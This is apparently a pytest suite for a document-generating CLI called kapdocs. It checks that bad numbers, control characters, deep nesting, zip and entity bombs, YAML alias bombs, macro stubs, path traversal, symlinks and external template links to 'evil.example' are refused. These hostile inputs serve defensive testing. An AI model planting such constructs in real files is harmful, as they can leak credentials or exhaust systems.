"""Trust, round two: every family of bad input, through the command line, built by the test itself.

Each case asserts the exit code, the located message, and that nothing was written."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from kapdocs.cli import main

from conftest import MINIMAL_SAMPLE


def minimal_data() -> dict:
    return yaml.safe_load(MINIMAL_SAMPLE.read_text(encoding="utf-8"))


def run(*args: str, env: dict | None = None):
    return CliRunner().invoke(main, list(args), env=env)


def json_plan(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "plan.json"
    path.write_text(text, encoding="utf-8")
    return path


def dumped() -> str:
    return json.dumps(minimal_data(), default=str)


# -- bad numbers ---------------------------------------------------------------------------------------------

@pytest.mark.parametrize("value, message", [
    ("1e309", "finite number"),
    (".inf", "valid number"),
    (".nan", "valid number"),
    ("-.inf", "valid number"),
])
def test_non_finite_numbers_are_refused_in_yaml(tmp_path, value, message):
    text = MINIMAL_SAMPLE.read_text().replace("      baseline: 78", f"      baseline: {value}")
    plan = tmp_path / "plan.yaml"
    plan.write_text(text)
    result = run("plan", str(plan), "-o", str(tmp_path / "out"))
    assert result.exit_code == 2
    line = next(i for i, l in enumerate(text.splitlines(), 1) if "baseline:" in l)
    assert f"plan.yaml:{line}:" in result.output and "objectives.smart[0].baseline" in result.output
    assert message in result.output
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("replace, message", [
    ('"target": 45', "NaN is not a number a plan can hold"),
    ('"target": 45', "Infinity is not a number a plan can hold"),
    ('"target": 45', "1e400 is too large a number"),
])
def test_non_finite_numbers_are_refused_in_json(tmp_path, replace, message):
    value = message.split(" ")[0]
    plan = json_plan(tmp_path, dumped().replace(replace, f'"target": {value}'))
    result = run("validate", str(plan))
    assert result.exit_code == 2 and message in result.output and "Traceback" not in result.output


# -- JSON read as JSON, within the same bounds as YAML -----------------------------------------------------------

def test_json_nested_a_thousand_deep_is_refused_at_its_place(tmp_path):
    text = dumped().replace('"sector": ', '"sector": ' + '{"a": ' * 1000 + "1" + "}" * 1000 + ', "x": ', 1)
    result = run("validate", str(json_plan(tmp_path, text)))
    assert result.exit_code == 2
    assert "nesting deeper than 40 levels" in result.output and "plan.json:1:" in result.output


def test_a_huge_integer_in_json_is_refused(tmp_path):
    text = dumped().replace('"currency": "EUR"', '"currency": "EUR", "volume_unit": ' + "9" * 5000)
    result = run("check", "--strict", str(json_plan(tmp_path, text)))
    # invalid input, not a health finding
    assert result.exit_code == 2 and "5000-digit integer" in result.output and "account.volume_unit" in result.output


def test_json_surrogate_pair_escapes_are_one_character(tmp_path):
    data = minimal_data()
    data["account"]["sector"] = "Rocket logistics \U0001F680"
    plan = json_plan(tmp_path, json.dumps(data, default=str))  # json.dumps writes "\ud83d\ude80"
    assert "\\ud83d\\ude80" in plan.read_text()
    result = run("context", str(plan), "--today", "2026-11-25")
    assert result.exit_code == 0, result.output
    assert json.loads(result.output)["plan"]["account"]["sector"] == "Rocket logistics \U0001F680"


def test_a_key_given_twice_in_json_is_reported(tmp_path):
    text = dumped().replace('"sector": "', '"sector": "first", "sector": "', 1)
    result = run("validate", str(json_plan(tmp_path, text)))
    assert result.exit_code == 2 and "duplicate key 'sector'" in result.output


@pytest.mark.parametrize("value", ["1767225600", "1767225600.5", '"2026-01-01T09:00:00"'])
def test_a_date_given_as_a_number_or_a_date_time_is_refused(tmp_path, value):
    text = dumped().replace('"start": "2026-01-01"', f'"start": {value}')
    assert text != dumped()
    result = run("validate", str(json_plan(tmp_path, text)))
    assert result.exit_code == 2
    assert "plan.period.start" in result.output and "YYYY-MM-DD" in result.output


# -- control characters from CRM exports ------------------------------------------------------------------------

@pytest.mark.parametrize("char", ["\x00", "\x85", "\x9f", "\x1b"])
def test_control_characters_are_removed_with_their_place(tmp_path, char):
    text = MINIMAL_SAMPLE.read_text().replace("cold storage", f"cold{char}storage")
    plan = tmp_path / "plan.yaml"
    plan.write_text(text, encoding="utf-8")
    result = run("validate", str(plan))
    assert result.exit_code == 0, result.output
    line = next(i for i, l in enumerate(text.split("\n"), 1) if "cold" in l)
    col = text.split("\n")[line - 1].index(char) + 1
    assert f"plan.yaml:{line}:{col}: warning: removed the control character U+{ord(char):04X}" in result.output
    assert "tabs" not in result.output


# -- SOURCE_DATE_EPOCH ------------------------------------------------------------------------------------------

@pytest.mark.parametrize("value, message", [("abc", "not a whole number of seconds"),
                                            ("99999999999", "after 2107-12-31"),
                                            ("-5", "not a whole number of seconds")])
def test_a_bad_source_date_epoch_is_a_clear_error(tmp_path, value, message):
    result = run("plan", str(MINIMAL_SAMPLE), "-o", str(tmp_path / "out"), env={"SOURCE_DATE_EPOCH": value})
    assert result.exit_code == 2 and message in result.output and "Traceback" not in result.output
    assert not (tmp_path / "out").exists() or not [p for p in (tmp_path / "out").iterdir()
                                                   if not p.name.startswith(".")]


# -- --update handles what validate accepts -------------------------------------------------------------------------

def test_update_handles_a_tab_before_a_comment(tmp_path):
    import openpyxl

    text = MINIMAL_SAMPLE.read_text().replace("  sector: Third-party logistics and cold storage",
                                              "  sector: Third-party logistics and cold storage\t# tab, then comment")
    plan = tmp_path / "plan.yaml"
    plan.write_text(text)
    assert run("validate", str(plan)).exit_code == 0
    assert run("contacts", str(plan), "-o", str(tmp_path / "out"), "--today", "2026-11-25").exit_code == 0
    book = next((tmp_path / "out").glob("*.xlsx"))
    wb = openpyxl.load_workbook(book)
    ws = wb["Contacts"]
    ws["A4"], ws["B4"], ws["C4"] = "newc", "New Person", "Buyer"
    edited = tmp_path / "edited.xlsx"
    wb.save(edited)
    result = run("contacts", str(plan), "--update", str(edited), "--yes")
    assert result.exit_code == 0, result.output
    after = plan.read_text()
    assert "- id: newc" in after and "cold storage # tab, then comment" in after
    assert run("validate", str(plan)).exit_code == 0


# -- hostile theme files ----------------------------------------------------------------------------------------

def _theme(tmp_path: Path) -> Path:
    brand = tmp_path / "brand"
    assert run("theme", "init", str(brand)).exit_code == 0
    return brand


def _rewrite(source: Path, target: Path, change=None, add: dict | None = None, compress=None) -> None:
    import zipfile

    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(target.with_suffix(".tmp"), "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info)
            if change is not None:
                data = change(info.filename, data)
            zout.writestr(info.filename, data)
        for name, data in (add or {}).items():
            zout.writestr(name, data)
    target.with_suffix(".tmp").replace(target)


ATTACHED = (b'<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'attachedTemplate" Target="file://evil.example/share/t.dotm" TargetMode="External"/>')
LINKED = (b'<Relationship Id="rIdP" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
          b'image" Target="\\\\\\\\evil\\\\share\\\\p.png" TargetMode="External"/>')


def _with_rel(rel: bytes):
    def change(name: str, data: bytes) -> bytes:
        if name == "word/_rels/settings.xml.rels" or name == "word/_rels/document.xml.rels":
            return data.replace(b"</Relationships>", rel + b"</Relationships>")
        return data
    return change


@pytest.mark.parametrize("case, message", [
    ("attached_template", "links to 'file://evil.example/share/t.dotm'"),
    ("linked_picture", "external links"),
    ("macros", "holds macros"),
    ("doctype", "DOCTYPE"),
    ("bomb", "inflates"),
    ("climbing_name", "outside the package"),
    ("not_zip", "not an Office file"),
    ("truncated", "not an Office file"),
])
def test_hostile_theme_documents_are_refused_before_anything_is_written(tmp_path, case, message):
    brand = _theme(tmp_path)
    reference = brand / "reference.docx"
    original = reference.read_bytes()
    if case == "attached_template":
        _rewrite(reference, reference, _with_rel(ATTACHED))
    elif case == "linked_picture":
        _rewrite(reference, reference, _with_rel(LINKED))
    elif case == "macros":
        _rewrite(reference, reference, add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"})
    elif case == "doctype":
        _rewrite(reference, reference, lambda n, d: d.replace(b"?>", b'?><!DOCTYPE x [<!ENTITY a "aaaa">]>', 1)
                 if n == "word/styles.xml" else d)
    elif case == "bomb":
        _rewrite(reference, reference, add={"word/media/big.xml": b"\0" * (101 * 1024 * 1024)})
    elif case == "climbing_name":
        _rewrite(reference, reference, add={"../../escape.xml": b"<x/>"})
    elif case == "not_zip":
        reference.write_bytes(b"this is not a zip file at all")
    elif case == "truncated":
        reference.write_bytes(original[: len(original) // 2])
    out = tmp_path / "out"
    result = run("plan", str(MINIMAL_SAMPLE), "-o", str(out), "--theme", str(brand))
    assert result.exit_code == 2, result.output
    assert "reference.docx" in result.output and message in result.output and "Traceback" not in result.output
    assert not out.exists()
    # theme check says the same
    checked = run("theme", "check", str(brand))
    assert checked.exit_code == 2 and message in checked.output


def test_a_theme_yaml_alias_bomb_is_refused(tmp_path):
    brand = _theme(tmp_path)
    lines = ['a0: &a0 ["x", "x", "x", "x", "x", "x", "x", "x", "x", "x"]']
    for i in range(1, 9):
        lines.append(f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]")
    (brand / "theme.yaml").write_text("\n".join(lines) + "\nname: bomb\n")
    assert (brand / "theme.yaml").stat().st_size < 2048
    result = run("plan", str(MINIMAL_SAMPLE), "-o", str(tmp_path / "out"), "--theme", str(brand))
    assert result.exit_code == 2 and "theme.yaml" in result.output and "aliases" in result.output
    assert not (tmp_path / "out").exists()


# -- never a traceback ---------------------------------------------------------------------------------------------

def test_a_full_disk_is_a_message_with_exit_2_and_the_old_files_intact(tmp_path, monkeypatch):
    import errno

    from kapdocs import atomic

    out = tmp_path / "out"
    assert run("plan", str(MINIMAL_SAMPLE), "-o", str(out), "--today", "2026-11-25").exit_code == 0
    before = {p.name: p.read_bytes() for p in out.iterdir()}

    def full(path, *args, **kwargs):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(path))

    monkeypatch.setattr(atomic, "durable", full)
    result = run("plan", str(MINIMAL_SAMPLE), "-o", str(out), "--today", "2026-11-26")
    assert result.exit_code == 2, result.output
    assert "No space left on device" in result.output and "Traceback" not in result.output
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before


def test_a_bug_exits_4_asking_for_a_report(tmp_path, monkeypatch):
    from kapdocs.render import plan_docx

    def broken(job):
        raise KeyError("oops")

    monkeypatch.setattr(plan_docx, "write", broken)
    result = run("plan", str(MINIMAL_SAMPLE), "-o", str(tmp_path / "out"))
    assert result.exit_code == 4
    assert "This is a bug in kapdocs" in result.output and "Traceback" not in result.output


# -- file names: every script, no collision --------------------------------------------------------------------------

def _plan_named(tmp_path: Path, file: str, name: str, meetings: list | None = None) -> Path:
    data = minimal_data()
    data["account"]["name"] = name
    if meetings is not None:
        data["meetings"] = meetings
    path = tmp_path / file
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    return path


def test_names_in_other_scripts_give_their_own_files(tmp_path):
    japanese = _plan_named(tmp_path, "jp.yaml", "株式会社すずき食品")
    russian = _plan_named(tmp_path, "ru.yaml", "ООО «Ромашка»")
    out = tmp_path / "out"
    for plan in (japanese, russian):
        result = run("plan", str(plan), "-o", str(out), "--today", "2026-11-25")
        assert result.exit_code == 0, result.output
    names = sorted(p.name for p in out.iterdir() if not p.name.startswith("."))
    assert names == ["ооо-ромашка-key-account-plan.docx", "株式会社すずき食品-key-account-plan.docx"]


def test_another_accounts_file_is_never_replaced(tmp_path):
    first = _plan_named(tmp_path, "a.yaml", "Acme Foods Ltd")
    second = _plan_named(tmp_path, "b.yaml", "ACME foods ltd.")  # another customer, the same file name
    out = tmp_path / "out"
    assert run("plan", str(first), "-o", str(out), "--today", "2026-11-25").exit_code == 0
    before = (out / "acme-foods-ltd-key-account-plan.docx").read_bytes()
    result = run("plan", str(second), "-o", str(out), "--today", "2026-11-25")
    assert result.exit_code == 3
    assert "written for another account, 'Acme Foods Ltd'" in result.output
    assert (out / "acme-foods-ltd-key-account-plan.docx").read_bytes() == before
    # both in one build: the second fails, naming both plan files (the first is built)
    folder = tmp_path / "plans"
    folder.mkdir()
    for p in (first, second):
        (folder / p.name).write_bytes(p.read_bytes())
    result = run("build", str(folder), "-o", str(tmp_path / "out2"), "--today", "2026-11-25", "--jobs", "1")
    assert result.exit_code == 1 and "would write the same folder acme-foods-ltd/" in result.output
    assert "a.yaml" in result.output and "b.yaml" in result.output


def test_a_meeting_id_ending_in_internal_cannot_take_another_decks_name(tmp_path):
    from kapdocs.naming import qbr_file

    assert qbr_file("Acme", "q4-internal") != qbr_file("Acme", "q4", internal=True)
    meetings = [{"id": "q4", "type": "qbr", "date": "2026-12-10", "start": "10:00", "duration_minutes": 120},
                {"id": "q4-internal", "type": "qbr", "date": "2026-12-11", "start": "10:00",
                 "duration_minutes": 120}]
    plan = _plan_named(tmp_path, "p.yaml", "Acme Ltd", meetings)
    out = tmp_path / "out"
    assert run("qbr", str(plan), "--meeting", "q4", "--internal", "-o", str(out), "--today", "2026-11-25").exit_code == 0
    assert run("qbr", str(plan), "--meeting", "q4-internal", "-o", str(out), "--today", "2026-11-25").exit_code == 0
    decks = sorted(p.name for p in out.glob("*.pptx"))
    assert decks == ["acme-ltd-qbr-q4-internal--.pptx", "acme-ltd-qbr-q4-internal.pptx"]


# -- a run killed among its final renames -----------------------------------------------------------------------------

def test_a_commit_killed_among_its_renames_is_completed_by_the_next_run(tmp_path, monkeypatch):
    from kapdocs import output
    from kapdocs.manifest import Manifest

    out = tmp_path / "out"
    assert run("build", str(MINIMAL_SAMPLE), "-o", str(out), "--today", "2026-11-25").exit_code == 0
    names = sorted(p.name for p in out.iterdir() if not p.name.startswith("."))
    assert len(names) >= 2
    real_replace = os.replace
    calls = {"n": 0}

    class Killed(BaseException):
        pass

    def dying_replace(src, dst):
        if str(src).endswith(".tmp") and not Path(str(src)).name.startswith(".kapdocs-"):
            calls["n"] += 1
            if calls["n"] == 2:  # the first file is renamed, the second is not: kill -9 here
                raise Killed()
        return real_replace(src, dst)

    monkeypatch.setattr(output.os, "replace", dying_replace)
    monkeypatch.setattr(output.OutputFolder, "discard", lambda self: None)  # kill -9 cleans nothing up
    import datetime as dt

    from kapdocs import api
    from kapdocs.render import Options

    with pytest.raises(Killed):
        api.build_loaded(api.load_all([MINIMAL_SAMPLE]), out, Options(today=dt.date(2026, 11, 26)))
    monkeypatch.undo()
    assert (out / output.JOURNAL).exists()  # the set is half published
    assert any(p.name.endswith(".tmp") for p in out.iterdir())  # staged files not yet renamed
    # the next run completes the set first, then builds: no file is taken for edited
    result = run("build", str(MINIMAL_SAMPLE), "-o", str(out), "--today", "2026-11-26")
    assert result.exit_code == 0, result.output
    assert not (out / output.JOURNAL).exists()
    manifest = Manifest(out)
    for name in names:
        assert manifest.protection(name) is None


# -- bounded work on every input: workbook read-back ----------------------------------------------------------------

def _matrix(tmp_path: Path) -> tuple[Path, Path]:
    from conftest import RICH_SAMPLE

    plan = tmp_path / "plan.yaml"
    plan.write_bytes(RICH_SAMPLE.read_bytes())
    assert run("contacts", str(plan), "-o", str(tmp_path / "out"), "--today", "2026-11-25").exit_code == 0
    return plan, next((tmp_path / "out").glob("*.xlsx"))


def _sheet_part(book: Path, sheet: str) -> str:
    import re
    import zipfile

    with zipfile.ZipFile(book) as z:
        workbook = z.read("xl/workbook.xml").decode()
        rels = z.read("xl/_rels/workbook.xml.rels").decode()
    rid = re.search(rf'<sheet [^>]*name="{sheet}"[^>]*r:id="(\w+)"', workbook).group(1)
    target = re.search(rf'<Relationship [^>]*Id="{rid}"[^>]*Target="([^"]+)"', rels) or \
        re.search(rf'<Relationship [^>]*Target="([^"]+)"[^>]*Id="{rid}"', rels)
    return "xl/" + target.group(1).lstrip("/").removeprefix("xl/")


def _edit_sheet(book: Path, sheet: str, change) -> Path:
    import zipfile

    part = _sheet_part(book, sheet)
    edited = book.with_name("edited.xlsx")
    with zipfile.ZipFile(book) as zin, zipfile.ZipFile(edited, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info)
            zout.writestr(info.filename, change(data) if info.filename == part else data)
    return edited


@pytest.mark.parametrize("case, message", [
    ("million_rows", "more than 20,000 rows"),
    ("entity_bomb", "DOCTYPE"),
    ("huge_number", "a cell kapdocs cannot read"),
])
def test_workbook_read_back_is_bounded(tmp_path, case, message):
    import re

    plan, book = _matrix(tmp_path)
    before = plan.read_bytes()
    if case == "million_rows":
        rows = "".join(f'<row r="{n}" s="1" customFormat="1"/>' for n in range(200, 1_000_200))

        def change(data: bytes) -> bytes:
            return re.sub(rb"</sheetData>", rows.encode() + b"</sheetData>", data, count=1)
    elif case == "entity_bomb":
        bomb = (b'<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
                b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>')

        def change(data: bytes) -> bytes:
            return data.replace(b"?>", b"?>" + bomb, 1)
    else:
        def change(data: bytes) -> bytes:  # the first number in the matrix (a relationship strength)
            return re.sub(rb"<v>\d+</v>", b"<v>1E+400</v>", data, count=1)
    sheet = "Matrix" if case == "huge_number" else "Contacts"
    edited = _edit_sheet(book, sheet, change)
    result = run("contacts", str(plan), "--update", str(edited), "--yes")
    assert result.exit_code == 2, result.output
    assert message in result.output and "Traceback" not in result.output
    assert plan.read_bytes() == before


# -- links ----------------------------------------------------------------------------------------------------------

def test_update_edits_a_linked_plan_where_it_points(tmp_path):
    import openpyxl

    shared = tmp_path / "shared"
    shared.mkdir()
    original = shared / "northwind.yaml"
    original.write_bytes(MINIMAL_SAMPLE.read_bytes())
    link = tmp_path / "plan.yaml"
    link.symlink_to(original)
    assert run("contacts", str(link), "-o", str(tmp_path / "out"), "--today", "2026-11-25").exit_code == 0
    book = next((tmp_path / "out").glob("*.xlsx"))
    wb = openpyxl.load_workbook(book)
    ws = wb["Contacts"]
    ws["A4"], ws["B4"], ws["C4"] = "newc", "New Person", "Buyer"
    wb.save(tmp_path / "edited.xlsx")
    result = run("contacts", str(link), "--update", str(tmp_path / "edited.xlsx"), "--yes")
    assert result.exit_code == 0, result.output
    assert link.is_symlink() and "- id: newc" in original.read_text()


def test_init_never_creates_files_through_links(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    folder = tmp_path / "plans"
    folder.mkdir()
    (folder / "plan.yaml").symlink_to(outside / "victim.yaml")
    result = run("init", str(folder / "plan.yaml"))
    assert result.exit_code == 2 and "is a link" in result.output
    assert not (outside / "victim.yaml").exists()
    # a dangling schema link pointing outside the folder is left alone
    (folder / "kapdocs-plan.schema.json").symlink_to(outside / "schema.json")
    result = run("init", str(folder / "new.yaml"))
    assert result.exit_code == 0 and "left" in result.output
    assert not (outside / "schema.json").exists() and (folder / "new.yaml").is_file()


# -- edits that get lost ----------------------------------------------------------------------------------------------

def _edit_book(book: Path, changes: dict[str, str]) -> None:
    import openpyxl

    wb = openpyxl.load_workbook(book, rich_text=True)
    for ref, value in changes.items():
        sheet, _, cell = ref.partition("!")
        wb[sheet][cell] = value
    wb.save(book)


@pytest.mark.parametrize("extra, protected", [
    ({}, False),  # every edit carried into the plan: the next build may replace the workbook
    ({"Coverage!B30": "my own note"}, True),  # an edit on a sheet the update does not read
    ({"Contacts!Z4": "call her after the budget round"}, True),  # an extra column of the user's notes
])
def test_an_update_records_as_ours_only_what_kapdocs_would_write(tmp_path, extra, protected):
    plan, book = _matrix(tmp_path)
    _edit_book(book, {"Contacts!C4": "Group Chief Executive", **extra})
    result = run("contacts", str(plan), "--update", str(book), "--yes")
    assert result.exit_code == 0, result.output
    assert "title: Group Chief Executive" in plan.read_text()
    rebuilt = run("contacts", str(plan), "-o", str(book.parent), "--today", "2026-11-25")
    if protected:
        assert "stays protected" in result.output and next(iter(extra)) in result.output
        assert rebuilt.exit_code == 3
        import openpyxl

        sheet, _, cell = next(iter(extra)).partition("!")
        assert openpyxl.load_workbook(book)[sheet][cell].value == next(iter(extra.values()))
    else:
        assert rebuilt.exit_code == 0, rebuilt.output


def test_a_workbook_written_for_another_plan_is_refused(tmp_path):
    plan, book = _matrix(tmp_path)
    other = _plan_named(tmp_path, "other.yaml", "Harbour Logistics Ltd")
    before = other.read_bytes()
    result = run("contacts", str(other), "--update", str(book), "--yes")
    assert result.exit_code == 2
    assert "written for 'Northwind Foods plc'" in result.output and "'Harbour Logistics Ltd'" in result.output
    assert other.read_bytes() == before


def test_update_merges_field_by_field_with_the_plan_as_it_is_now(tmp_path):
    plan, book = _matrix(tmp_path)
    # after the workbook was written, a colleague changes a title in the plan...
    text = plan.read_text()
    assert "title: Chief Operating Officer" in text
    plan.write_text(text.replace("title: Chief Operating Officer", "title: Group Chief Operating Officer", 1))
    # ...and someone else edits another cell in the workbook
    _edit_book(book, {"Contacts!C4": "Group Chief Executive"})
    result = run("contacts", str(plan), "--update", str(book), "--yes")
    assert result.exit_code == 0, result.output
    after = plan.read_text()
    # the workbook's edit is applied, the plan's is kept (the workbook's old title is not written back)
    assert "title: Group Chief Executive" in after and "title: Group Chief Operating Officer" in after
    assert "only the cells you edited are applied" in result.output


def test_the_same_field_changed_in_both_is_a_located_conflict(tmp_path):
    plan, book = _matrix(tmp_path)
    text = plan.read_text()
    plan.write_text(text.replace("title: Chief Executive Officer", "title: Chief Executive", 1))
    before = plan.read_bytes()
    _edit_book(book, {"Contacts!C4": "Group Chief Executive"})
    result = run("contacts", str(plan), "--update", str(book), "--yes")
    assert result.exit_code == 2
    assert "Contacts!C4: cwhitfield title was changed in both" in result.output
    assert "'Chief Executive'" in result.output or "Chief Executive," in result.output
    assert plan.read_bytes() == before


def test_a_read_only_output_folder_is_a_message_with_exit_2(tmp_path, monkeypatch):
    import errno

    from kapdocs import atomic

    real = atomic.temporary

    def denied(beside, *args, **kwargs):
        raise PermissionError(errno.EACCES, os.strerror(errno.EACCES), str(beside.parent))

    monkeypatch.setattr(atomic, "temporary", denied)
    result = run("plan", str(MINIMAL_SAMPLE), "-o", str(tmp_path / "out"))
    assert result.exit_code == 2, result.output
    assert "Permission denied" in result.output and "Traceback" not in result.output
    monkeypatch.setattr(atomic, "temporary", real)
    assert not [p for p in (tmp_path / "out").iterdir() if not p.name.startswith(".")]
